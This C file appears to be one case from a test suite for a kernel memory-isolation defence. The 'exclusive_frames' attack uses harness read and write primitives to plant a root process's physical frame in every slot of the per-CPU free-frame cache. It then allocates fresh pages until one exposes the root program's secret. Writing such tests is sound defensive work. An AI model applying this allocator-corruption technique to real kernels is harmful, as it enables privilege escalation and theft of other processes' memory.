// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("exclusive_frames", "frame_twice", "exclusive_frames: corrupted cache of frames",
       "The program puts a frame of root's program among the free frames of its "
       "processor, and takes a new page.",
       "How many programs map a frame is counted in sealed memory, and a frame that one "
       "maps is not handed out.",
       "The page is memory of root's program, and its secret stands there.");

#define KIND_PROGRAM 3
#define STATE_CACHED 2

static char memory[4096] __attribute__((aligned(4096)));
static char fresh[4096 * 64] __attribute__((aligned(4096)));

static bool control(void)
{
	return is_ordinary();
}

/* Over every free frame in the cache: the next page is it. */
static void plant(uint64_t cpu, uint64_t frame)
{
	const uint64_t stack = peek(cpu + member("cpu.frame_cache")) + member("frame_cache.clean") +
			       KIND_PROGRAM * member("frame_stack.SIZE");

	poke8(frame + member("frame.state"), STATE_CACHED);
	for (uint32_t i = 0; i < peek32(stack + member("frame_stack.count")); i++)
		poke(stack + member("frame_stack.slots") + 8 * i, frame);
}

static bool fire(void)
{
	const uint64_t cpu = own_cpu(0), task = own_task();
	const uint64_t root = own_root(victim_task(task));
	const uint64_t entry = peek(table_entry(root, (uint64_t)memory, 1));
	const uint64_t frame = peek(symbol("frame_arrays") + member("frame_arrays.frames")) +
			       ((entry & ENTRY_ADDRESS) >> 12) * member("frame.SIZE");

	for (unsigned int i = 0; i < 64; i++) {
		char *const page = fresh + 4096 * i;

		plant(cpu, frame);
		page[4095] = 1;
		if (bytes_equal(page, SECRET, sizeof(SECRET) - 1))
			return true;
	}
	return false;
}

static void victim(void)
{
	char *end = memory;

	append_text(&end, SECRET);
	victim_waits();
}
